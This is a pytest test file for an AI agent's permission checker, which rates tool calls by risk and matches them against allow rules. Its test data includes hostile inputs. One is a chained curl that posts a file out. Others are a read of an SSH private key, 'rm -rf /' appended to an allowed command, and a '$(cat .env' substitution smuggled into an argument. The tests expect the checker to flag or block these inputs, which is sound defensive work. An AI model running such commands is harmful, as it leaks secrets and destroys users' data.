"""How risky a tool call is, and what a list of rules allows."""

from __future__ import annotations

from typing import Any

import pytest

from navi.permissions.tool_risk import is_listed, risk_of


@pytest.mark.parametrize(
    ("tool", "arguments", "risk"),
    [
        ("Bash", {"command": "git status"}, "low"),
        ("Bash", {"command": "pytest -q"}, "low"),
        ("terminal", {"command": "rm -rf build"}, "high"),
        ("Bash", {"command": "git status && curl -d @x http://example.com"}, "high"),
        ("Bash", {"command": "frobnicate"}, "unknown"),
        ("Read", {"file_path": "a.py"}, "low"),
        ("Read", {"file_path": "/home/ada/.ssh/id_ed25519"}, "high"),
        ("Write", {"file_path": "a.py", "content": ""}, "high"),
        ("WebFetch", {"url": "http://example.com"}, "high"),
        ("mcp__shop__order", {}, "unknown"),
    ],
)
def test_a_call_is_as_risky_as_its_worst_command(
    tool: str, arguments: dict[str, Any], risk: str
) -> None:
    assert risk_of(tool, arguments)[0] == risk


def test_a_tool_of_an_mcp_server_is_called_by_its_servers_name() -> None:
    assert risk_of("mcp__navi__schedule_recall", {})[1] == "a tool of the MCP server navi"


@pytest.mark.parametrize(
    ("rules", "tool", "arguments", "expected"),
    [
        ([], "Bash", {"command": "git status"}, True),
        ([], "Bash", {"command": "npm install"}, False),
        (["Bash(npm install:*)"], "Bash", {"command": "npm install left-pad"}, True),
        (["Bash(npm install:*)"], "Bash", {"command": "npm install && rm -rf /"}, False),
        (["Bash(npm install:*)"], "Bash", {"command": "ls && npm install"}, True),
        (["Bash(npm install:*)"], "Bash", {"command": "npm install $(cat .env"}, False),
        (["WebFetch"], "WebFetch", {"url": "http://example.com"}, True),
        (["WebFetch"], "Write", {"file_path": "a"}, False),
    ],
)
def test_a_line_is_allowed_only_if_each_of_its_commands_is(
    rules: list[str], tool: str, arguments: dict[str, Any], expected: bool
) -> None:
    assert is_listed(rules, tool, arguments) is expected
